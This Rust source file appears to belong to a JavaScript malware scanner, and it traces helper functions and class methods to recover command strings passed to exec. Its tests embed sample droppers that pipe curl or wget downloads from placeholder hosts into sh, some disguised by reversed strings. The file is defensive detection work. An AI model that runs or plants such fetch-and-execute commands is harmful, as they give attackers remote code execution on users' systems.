//! What a JavaScript helper is, for [`HelperCalls`] (see `helper_calls.rs`): `exec(fetchCommand())`
//! where `function fetchCommand() { return ['curl', '-fsSL', url(), '|', 'sh'].join(' '); }` runs that
//! command line.
//!
//! Only the plainest helpers are followed: a top-level `function name(a, b) { … }` or `const name = (s) =>
//! …` whose parameters are plain names, defined once and never reassigned, whose body (for its return
//! value) is straight-line code (`const`/`let`/`var` declarations of plain names, then `return
//! <expression>`) or an arrow's expression: `flip(s)` returning `s.split('').reverse().join('')`. Anything
//! else (defaults, destructuring, rest parameters, branches) leaves the call unknown.

use super::super::helper_calls::{
    Helper, HelperCalls, Helpers, MAX_HELPER_PARAMETERS, MAX_HELPER_STATEMENTS,
};
use super::super::values::Value;
use super::super::Env;
use super::Walker;
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use std::borrow::Cow;
use tree_sitter::Node;

/// The helper `function` (a declaration, arrow or function expression) is, if it is declared at the top
/// of the module and its parameters are plain names.
pub(super) fn helper<'t>(function: Node<'t>, text: &'t str) -> Option<Helper<'t>> {
    is_top_level(function)
        .then(|| helper_anywhere(function, text))
        .flatten()
}

/// As [`helper`], wherever `function` is written (a member of an exported object): what it returns is
/// read with the module's names only, so a closure's locals stay unknown.
pub(super) fn helper_anywhere<'t>(function: Node<'t>, text: &'t str) -> Option<Helper<'t>> {
    let parameters = plain_parameters(function)?
        .into_iter()
        .map(|p| {
            let name = p.field_child("pattern").unwrap_or(p);
            name.utf8_text(text.as_bytes()).unwrap_or("")
        })
        .collect();
    let body = function.field_child("body")?;
    Some(Helper { body, parameters })
}

/// A class's plain method (`cmd() { return … }`: not static, async, a getter or a generator), under the
/// name `this.cmd()` finds it by in that class's other methods (see [`this_method_key`]).
pub(super) fn method_helper<'t>(method: Node<'t>, text: &'t str) -> Option<(String, Helper<'t>)> {
    let class_body = method.parent().filter(|p| p.kind_name() == "class_body")?;
    let name = method.field_child("name")?;
    // Modifiers (`static`, `async`, `get`, `*`) come before the name.
    if name.kind_name() != "property_identifier" || method.child(0)?.id() != name.id() {
        return None;
    }
    let parameters = plain_parameters(method)?
        .into_iter()
        .map(|p| {
            let name = p.field_child("pattern").unwrap_or(p);
            name.utf8_text(text.as_bytes()).unwrap_or("")
        })
        .collect();
    let key = method_key(name.utf8_text(text.as_bytes()).ok()?, class_body);
    let body = method.field_child("body")?;
    Some((key, Helper { body, parameters }))
}

/// `this.name` inside a method of a class (through arrows, which keep `this`; not through a nested
/// `function`, which has its own): the key [`method_helper`] records that class's method `name` under.
///
/// `root` is the tree's root (or any ancestor): the ancestors are found in one walk down from it, as
/// `Node::parent` finds each one by walking down from the root again, which made this quadratic in the
/// depth of a bundle's nesting. Above `root`, or when `member` is not under it, `parent` takes over.
pub(super) fn this_method_key(member: Node, root: Option<Node>, text: &str) -> Option<String> {
    if member.kind_name() != "member_expression"
        || member.field_child("object")?.kind_name() != "this"
    {
        return None;
    }
    let property = member.field_child("property")?;
    if property.kind_name() != "property_identifier" {
        return None;
    }
    let ancestors = root.map(|root| ancestors(root, member)).unwrap_or_default();
    let mut above = ancestors.iter().rev().copied();
    let mut at = match ancestors.last() {
        Some(_) => above.next(),
        None => member.parent(),
    };
    while let Some(parent) = at {
        match parent.kind_name() {
            "method_definition" => {
                let class_body = parent.parent().filter(|p| p.kind_name() == "class_body")?;
                return Some(method_key(
                    property.utf8_text(text.as_bytes()).ok()?,
                    class_body,
                ));
            }
            "function_declaration"
            | "function_expression"
            | "function"
            | "generator_function"
            | "generator_function_declaration"
            | "program" => return None,
            _ => at = above.next().or_else(|| parent.parent()),
        }
    }
    None
}

/// The nodes from `root` down to `node`'s parent, in that order; empty when `node` is `root` or not
/// under it.
fn ancestors<'t>(root: Node<'t>, node: Node<'t>) -> Vec<Node<'t>> {
    let mut chain = Vec::new();
    let mut at = root;
    while at.id() != node.id() {
        chain.push(at);
        match at.child_with_descendant(node) {
            Some(next) => at = next,
            None => return Vec::new(),
        }
    }
    chain
}

/// A key no identifier can spell, so a class's methods never meet the module's names.
fn method_key(name: &str, class_body: Node) -> String {
    format!("this.{name}#{}", class_body.id())
}

/// A function's parameters when each is a plain name (`(a, b)`, or an arrow's bare `s`).
fn plain_parameters(function: Node) -> Option<Vec<Node>> {
    if let Some(single) = function.field_child("parameter") {
        return (single.kind_name() == "identifier").then(|| vec![single]);
    }
    let parameters = function.field_child("parameters")?;
    let list = crate::native::evaluate::named_items(parameters);
    let plain = list.len() <= MAX_HELPER_PARAMETERS
        && list.iter().all(|p| {
            p.kind_name() == "identifier"
                || (p.kind_name() == "required_parameter"
                    && p.field_child("pattern")
                        .is_some_and(|n| n.kind_name() == "identifier")
                    && p.field_child("value").is_none())
        });
    plain.then_some(list)
}

/// Whether a function is declared at the top of the module (not a method or a nested closure).
pub(super) fn is_top_level(function: Node) -> bool {
    let mut at = function.parent();
    while let Some(parent) = at {
        match parent.kind_name() {
            "program" => return true,
            "statement_block" | "class_body" | "arguments" | "object" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> HelperCalls<'t> for Walker<'t, '_> {
    const UNPOSITIONAL: &'static [&'static str] = &["spread_element"];

    fn helpers(&mut self) -> &mut Helpers<'t> {
        &mut self.helpers
    }

    fn scopes(&mut self) -> &mut Env {
        &mut self.env
    }

    fn source(&self, node: Node<'t>) -> &'t str {
        self.src(node)
    }

    fn helper_name(&self, function: Node<'t>) -> Option<Cow<'t, str>> {
        match function.kind_name() {
            "identifier" => Some(Cow::Borrowed(self.src(function))),
            // `this.cmd()` in a class, `t.decode(2)` where `t.decode = (i) => …` was assigned.
            "member_expression" if self.helpers.any_dotted() => {
                this_method_key(function, self.root, self.text)
                    .or_else(|| self.member_key(function))
                    .map(Cow::Owned)
            }
            _ => None,
        }
    }

    fn value_of(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
        self.eval(node, depth)
    }

    fn walk_body(&mut self, body: Node<'t>) {
        self.walk(body, 0);
    }

    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        if body.kind_name() != "statement_block" {
            // `() => expression`
            return self.eval(body, depth + 1);
        }
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind_name() {
                "comment" | "empty_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "lexical_declaration" | "variable_declaration" => {
                    let mut cursor = statement.walk();
                    let declarators: Vec<Node<'t>> =
                        statement.named_children(&mut cursor).collect();
                    for declarator in declarators {
                        let name = declarator.field_child("name")?;
                        if name.kind_name() != "identifier" {
                            return None;
                        }
                        let value = declarator
                            .field_child("value")
                            .and_then(|v| self.eval(v, depth + 1));
                        let name = self.src(name);
                        self.env.set(name, value);
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = javascript(concat!(
            "const { exec } = require('child_process');\n",
            "const HOST = 'https://t.example.invalid';\n",
            "function bootUrl() { return HOST + '/boot.sh'; }\n",
            "const command = () => ['curl', '-fsSL', bootUrl(), '|', 'sh'].join(' ');\n",
            "function go() { exec(command(), () => {}); }\n",
            "go();\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("\"curl -fsSL https://t.example.invalid/boot.sh | sh\"")),
            "{found:?}"
        );
    }

    #[test]
    fn a_helper_with_parameters_returns_what_its_arguments_make() {
        let found = javascript(concat!(
            "const flip = (s) => s.split('').reverse().join('');\n",
            "function line(url, tail) { const head = 'curl -s '; return head + url + tail; }\n",
            "require('child_process')[flip('cexe')](line(flip('hs.i/0.311.0.302//:ptth'), ' | sh'));\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"curl -s http://203.0.113.0/i.sh | sh\")")),
            "{found:?}"
        );
    }

    #[test]
    fn a_sink_inside_a_helper_reads_what_each_call_passes() {
        let found = javascript(concat!(
            "function run(c) {\n",
            "  if (c) { require('child_process').exec(c, { windowsHide: true }); }\n",
            "}\n",
            "const target = ['http:', '', '198.51.100.23', 'c.sh'].join('/');\n",
            "run('curl -s ' + target + ' | bash');\n",
            "run(process.argv[2]);\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"curl -s http://198.51.100.23/c.sh | bash\"")),
            "{found:?}"
        );
    }

    #[test]
    fn a_class_method_returning_a_command_is_read_where_another_method_runs_it() {
        let found = javascript(concat!(
            "class Job {\n",
            "  site() { return ['198', '51', '100', '77'].join('.'); }\n",
            "  line() { return `wget -qO- http://${this.site()}/j | sh`; }\n",
            "  lib() { return 'child' + '_process'; }\n",
            "  go() { const m = require(this.lib()); m.exec(this.line()); }\n",
            "}\n",
            "new Job().go();\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"wget -qO- http://198.51.100.77/j | sh\")")),
            "{found:?}"
        );
    }

    #[test]
    fn methods_replaced_static_or_called_through_another_this_stay_unknown() {
        for text in [
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } constructor() { this.cmd = load; } go() { cp.exec(this.cmd()); } }\n",
            "const cp = require('child_process');\nclass A { static cmd() { return 'curl -s https://a.invalid | sh'; } go() { cp.exec(this.cmd()); } }\n",
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } go() { setup(function () { cp.exec(this.cmd()); }); } }\n",
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } }\nclass B { go() { cp.exec(this.cmd()); } }\n",
        ] {
            let found = javascript(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }

    #[test]
    fn helpers_with_parameters_branches_nesting_or_reassignment_stay_unknown() {
        for text in [
            "const cp = require('child_process');\nfunction cmd(x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction cmd(x = 'a') { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd('https://a.invalid'));\n",
            "const cp = require('child_process');\nfunction cmd(...x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd('https://a.invalid'));\n",
            "const cp = require('child_process');\nfunction cmd() { if (a) { return 'curl -s https://a.invalid | sh'; } return 'ls'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nlet cmd = () => 'curl -s https://a.invalid | sh';\ncmd = load();\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction a() { return b() + 'x'; }\nfunction b() { return a() + 'y'; }\ncp.exec(a());\n",
        ] {
            let found = javascript(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }
}

#[cfg(test)]
mod ancestor_tests {
    use super::this_method_key;
    use tree_sitter::Node;

    fn members<'t>(node: Node<'t>, out: &mut Vec<Node<'t>>) {
        if node.kind() == "member_expression" {
            out.push(node);
        }
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            members(child, out);
        }
    }

    /// Every member's key found from the root is the key found by walking `parent` up, as before.
    fn same_keys(text: &str) -> usize {
        let mut parser = tree_sitter::Parser::new();
        parser
            .set_language(&crate::syntax::Grammar::Javascript.ts_language())
            .unwrap();
        let tree = parser.parse(text, None).unwrap();
        let root = tree.root_node();
        let mut found = Vec::new();
        members(root, &mut found);
        let mut keyed = 0;
        for member in found {
            let by_parent = this_method_key(member, None, text);
            assert_eq!(this_method_key(member, Some(root), text), by_parent);
            // From an ancestor short of the root, `parent` takes over above it.
            if let Some(inner) = member.parent().and_then(|p| p.parent()) {
                assert_eq!(this_method_key(member, Some(inner), text), by_parent);
            }
            // From a node the member is not under, the old walk answers.
            if let Some(first) = root.named_child(0) {
                assert_eq!(this_method_key(member, Some(first), text), by_parent);
            }
            keyed += usize::from(by_parent.is_some());
        }
        keyed
    }

    #[test]
    fn keys_from_the_root_are_the_keys_parent_finds() {
        let text = concat!(
            "class A { run() { return this.cmd(); } cmd() { const f = () => this.x; return f; }\n",
            "  nested() { function g() { return this.y; } return [g, () => { return this.z.w; }]; } }\n",
            "const o = { m() { return this.q; } };\n",
            "class B extends A { get v() { return this.run(); } static s() { return this.t; } }\n",
            "this.top = 1;\n",
        );
        // run, cmd's arrow, nested's arrow (`this.z`), B's getter and static method; not `g`'s own
        // `this`, the object literal's method or the module's `this`.
        assert_eq!(same_keys(text), 5);
    }

    #[test]
    fn deep_nesting_and_a_long_line_give_the_same_keys() {
        // A method whose `this` sits under 300 nested arrows and parentheses.
        let mut deep = String::from("class C { m() { return ");
        for _ in 0..300 {
            deep.push_str("(() => ");
        }
        deep.push_str("this.k");
        for _ in 0..300 {
            deep.push(')');
        }
        deep.push_str("; } }\n");
        assert_eq!(same_keys(&deep), 1);
        // A one-line bundle of many classes.
        let line: String = (0..2000)
            .map(|i| format!("class K{i}{{a(){{return this.b{i}()}}b{i}(){{return 1}}}}"))
            .collect();
        assert_eq!(same_keys(&line), 2000);
    }
}
